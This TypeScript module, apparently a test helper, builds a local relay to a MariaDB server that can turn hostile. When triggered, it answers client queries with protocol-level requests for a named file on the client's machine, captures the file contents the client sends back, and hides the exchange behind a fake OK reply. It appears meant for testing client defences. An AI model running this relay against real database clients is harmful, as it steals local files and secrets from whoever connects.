import { once } from 'node:events';
import { connect, createServer, type Socket } from 'node:net';

/** A relay to a MariaDB server that can attack its clients. */
export interface GreedyRelay {
  /** The server's address through the relay. */
  url: string;
  /** Responds to every further query with a request for this file of the client's machine, as the protocol allows. */
  ask(file: string): void;
  /** Everything that clients have sent. */
  sent(): Buffer;
  stop(): Promise<void>;
}

/** First byte of a client's query and of a server's request for a file, after a header of four bytes. */
const QUERY = 0x03;
const FILE_REQUEST = 0xfb;
const HEADER = 4;

const packet = (sequence: number, ...body: number[]): Buffer => Buffer.from([body.length, 0, 0, sequence, ...body]);

/** The server's OK packet, with no rows and no warnings. */
const content = (sequence: number): Buffer => packet(sequence, 0, 0, 0, 2, 0, 0, 0);

/** Starts a relay to the server of an address on a spare port of this machine. */
export async function startGreedyRelay(address: string): Promise<GreedyRelay> {
  const upstream = new URL(address);
  const sockets = new Set<Socket>();
  const sent: Buffer[] = [];
  let requested: string | null = null;
  const relay = createServer((client) => {
    const server = connect(Number(upstream.port), upstream.hostname);
    server.pipe(client);
    for (const socket of [client, server]) {
      sockets.add(socket);
      socket.once('close', () => {
        client.destroy();
        server.destroy();
      });
    }
    let asked = false;
    client.on('data', (data) => {
      sent.push(data);
      if (asked) {
        // A packet without a body ends the client's file.
        if (data.readUIntLE(data.length - HEADER, 3) !== 0) return;
        asked = false;
        client.write(content(data.readUInt8(data.length - 1) + 1));
      } else if (requested !== null && data[HEADER] === QUERY) {
        asked = true;
        client.write(packet(1, FILE_REQUEST, ...Buffer.from(requested)));
      } else {
        server.write(data);
      }
    });
  }).listen(0, '127.0.0.1');
  await once(relay, 'listening');
  const url = new URL(address);
  const at = relay.address();
  if (typeof at !== 'object' || at === null) throw new Error('The system gave no spare port.');
  url.port = String(at.port);
  return {
    url: url.href,
    ask(file) {
      requested = file;
    },
    sent: () => Buffer.concat(sent),
    async stop() {
      relay.close();
      for (const socket of sockets) socket.destroy();
      await once(relay, 'close');
    },
  };
}
